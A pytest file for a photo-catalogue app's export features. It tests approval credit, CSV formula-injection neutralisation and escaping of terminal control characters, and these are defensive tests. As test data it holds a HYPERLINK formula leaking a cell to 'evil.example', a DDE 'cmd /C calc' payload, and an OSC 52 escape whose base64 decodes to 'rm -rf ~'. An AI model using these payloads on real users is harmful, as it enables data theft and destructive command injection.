"""What exports say: who approved the text they carry, CSV cells no spreadsheet runs as formulas, and
human-readable output with control characters shown, never obeyed."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from desktop_app.catalogue import Catalogue
from desktop_app.catalogue.captions import add_caption, edit_caption, set_review_state
from desktop_app.catalogue.models import Caption, CaptionOrigin, CaptionRevision, ReviewState
from desktop_app.catalogue.photos import PhotoQuery, find_photo
from desktop_app.exports import ExportFormat, export
from desktop_app.library.scanner import Scanner
from tests import photo_files
from tests.cli_helpers import run_cli


def _scan(scanner: Scanner, root: Path, *names: str) -> dict[str, Path]:
    files = {name: photo_files.jpeg(root / name, seed=seed) for seed, name in enumerate(names)}
    scanner.scan(root)
    return files


def _jsonl(catalogue: Catalogue, output: Path) -> dict[str, dict]:
    export(catalogue, ExportFormat.JSONL, output, PhotoQuery())
    rows = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    return {row["relative_path"]: row for row in rows}


def _revision(catalogue: Catalogue, path: Path, number: int) -> CaptionRevision:
    with catalogue.read() as session:
        photo = find_photo(session, str(path))
        return session.scalars(select(CaptionRevision).join(Caption).where(
            Caption.photo_id == photo.id, CaptionRevision.number == number)).one()


# -- 7. approved_by / approved_at come from the revision that approved the current text --------------


def test_approval_is_credited_to_whoever_approved_the_current_text(
    catalogue: Catalogue, scanner: Scanner, tmp_path: Path
) -> None:
    files = _scan(scanner, tmp_path / "lib", "approve.jpg", "edit-approve.jpg", "a-then-b.jpg",
                  "a-then-edit.jpg", "a-reject-c.jpg", "same-text.jpg")
    with catalogue.write() as session:
        def photo(name: str):
            return find_photo(session, str(files[name]))

        for name in files:
            add_caption(session, photo(name), f"draft of {name}", origin=CaptionOrigin.AI, author="tiny/blip",
                        captioner_id="generic")
        set_review_state(session, photo("approve.jpg"), ReviewState.APPROVED, author="anna")  # rev 2
        edit_caption(session, photo("edit-approve.jpg"), "corrected", author="ben", approve=True)  # rev 2
        set_review_state(session, photo("a-then-b.jpg"), ReviewState.APPROVED, author="anna")  # rev 2
        edit_caption(session, photo("a-then-b.jpg"), "better", author="ben", approve=True)  # rev 3
        set_review_state(session, photo("a-then-edit.jpg"), ReviewState.APPROVED, author="anna")
        edit_caption(session, photo("a-then-edit.jpg"), "changed, not approved", author="ben")
        set_review_state(session, photo("a-reject-c.jpg"), ReviewState.APPROVED, author="anna")
        set_review_state(session, photo("a-reject-c.jpg"), ReviewState.REJECTED, author="ben")
        set_review_state(session, photo("a-reject-c.jpg"), ReviewState.APPROVED, author="carl")  # rev 4
        set_review_state(session, photo("same-text.jpg"), ReviewState.APPROVED, author="anna")  # rev 2
        # an approved caption chosen again, its text unchanged: still anna's approval
        edit_caption(session, photo("same-text.jpg"), "draft of same-text.jpg", author="ben", approve=True)

    rows = _jsonl(catalogue, tmp_path / "out.jsonl")

    def credit(name: str) -> tuple[str | None, str | None]:
        return rows[name]["approved_by"], rows[name]["approved_at"]

    def revision(name: str, number: int) -> tuple[str | None, str]:
        found = _revision(catalogue, files[name], number)
        return found.author, found.created_at.isoformat()

    assert credit("approve.jpg") == revision("approve.jpg", 2) and credit("approve.jpg")[0] == "anna"
    assert credit("edit-approve.jpg") == revision("edit-approve.jpg", 2)
    assert credit("edit-approve.jpg")[0] == "ben"
    assert credit("a-then-b.jpg") == revision("a-then-b.jpg", 3) and credit("a-then-b.jpg")[0] == "ben"
    assert rows["a-then-edit.jpg"]["state"] == "draft" and credit("a-then-edit.jpg") == (None, None)
    assert credit("a-reject-c.jpg") == revision("a-reject-c.jpg", 4) and credit("a-reject-c.jpg")[0] == "carl"
    assert credit("same-text.jpg") == revision("same-text.jpg", 2)


def test_csv_shows_the_same_credit(catalogue: Catalogue, scanner: Scanner, tmp_path: Path) -> None:
    files = _scan(scanner, tmp_path / "lib", "p.jpg")
    with catalogue.write() as session:
        edit_caption(session, find_photo(session, str(files["p.jpg"])), "a person's text", author="dora",
                     approve=True)
    export(catalogue, ExportFormat.CSV, tmp_path / "out.csv", PhotoQuery())
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["approved_by"] == "dora" and row["approved_at"]


# -- 8. CSV cells are never formulas --------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)"]


def test_csv_neutralises_cells_a_spreadsheet_would_run_and_json_stays_exact(
    catalogue: Catalogue, scanner: Scanner, tmp_path: Path
) -> None:
    names = [f"{i}.jpg" for i in range(len(FORMULAS))] + ["=cmd.jpg", "tab.jpg", "safe.jpg"]
    files = _scan(scanner, tmp_path / "lib", *names)
    with catalogue.write() as session:
        def photo(name: str):
            return find_photo(session, str(files[name]))

        for formula, name in zip(FORMULAS, names, strict=False):
            add_caption(session, photo(name), formula, origin=CaptionOrigin.IMPORTED, author="-author",
                        notice="@notice")
        add_caption(session, photo("=cmd.jpg"), "a harbour", origin=CaptionOrigin.HUMAN, author="=1+1")
        # caption text is stripped when stored; a tab or CR can still lead the other text cells
        add_caption(session, photo("tab.jpg"), "a quay", origin=CaptionOrigin.HUMAN, author="\t=1+1",
                    notice="\r=2")
        add_caption(session, find_photo(session, str(files["safe.jpg"])), "a = b, 3 - 2 (and @home)",
                    origin=CaptionOrigin.HUMAN, author="ana")
    export(catalogue, ExportFormat.CSV, tmp_path / "out.csv", PhotoQuery())
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as stream:
        rows = {row["relative_path"].lstrip("'"): row for row in csv.DictReader(stream)}

    for formula, name in zip(FORMULAS, names, strict=False):
        assert rows[name]["caption"] == "'" + formula
        assert rows[name]["author"] == "'-author" and rows[name]["notice"] == "'@notice"
    assert rows["=cmd.jpg"]["relative_path"] == "'=cmd.jpg" and rows["=cmd.jpg"]["author"] == "'=1+1"
    assert (rows["tab.jpg"]["author"], rows["tab.jpg"]["notice"]) == ("'\t=1+1", "'\r=2")
    assert rows["safe.jpg"]["caption"] == "a = b, 3 - 2 (and @home)" and rows["safe.jpg"]["author"] == "ana"
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows.values() for value in row.values() if value.startswith(dangerous)]

    json_rows = _jsonl(catalogue, tmp_path / "out.jsonl")
    assert [json_rows[name]["caption"] for name in names[:len(FORMULAS)]] == FORMULAS
    assert json_rows["=cmd.jpg"]["author"] == "=1+1" and json_rows["0.jpg"]["notice"] == "@notice"
    assert json_rows["tab.jpg"]["author"] == "\t=1+1"
    export(catalogue, ExportFormat.COCO, tmp_path / "coco.json", PhotoQuery())
    coco = json.loads((tmp_path / "coco.json").read_text(encoding="utf-8"))
    assert set(FORMULAS) <= {annotation["caption"] for annotation in coco["annotations"]}


# -- human-readable output passes through terminal.printable -------------------------------------


def test_cli_export_output_shows_control_characters(capsys: pytest.CaptureFixture[str], catalogue: Catalogue,
                                                    scanner: Scanner, db_path: Path, tmp_path: Path) -> None:
    files = _scan(scanner, tmp_path / "lib", "ok.jpg", "gone\x1b]52;c;cm0gLXJmIH4=\x07.jpg")
    with catalogue.write() as session:
        for path in files.values():
            add_caption(session, find_photo(session, str(path)), "a caption", origin=CaptionOrigin.HUMAN,
                        author="ana")
    files["gone\x1b]52;c;cm0gLXJmIH4=\x07.jpg"].unlink()
    output = tmp_path / "set\x1b[2J"

    def run(*args: str) -> tuple[int, str, str]:
        return run_cli(capsys, *args, "--db", str(db_path))

    code, out, err = run("export", "--format", "hf-imagefolder", "--output", str(output))
    assert code == 0, err
    assert "\x1b" not in out + err and "\x07" not in err
    assert "set\\x1b[2J" in out and "gone\\x1b]52;c;cm0gLXJmIH4=\\x07.jpg: file missing" in err
    code, out, err = run("export", "--format", "hf-imagefolder", "--output", str(output))
    assert code == 1 and "\x1b" not in err and "set\\x1b[2J already exists" in err
    code, out, err = run("export", "--format", "hf-imagefolder", "--force", "--json", "--output", str(output))
    assert code == 0 and json.loads(out)["output"] == str(output)  # --json stays exact
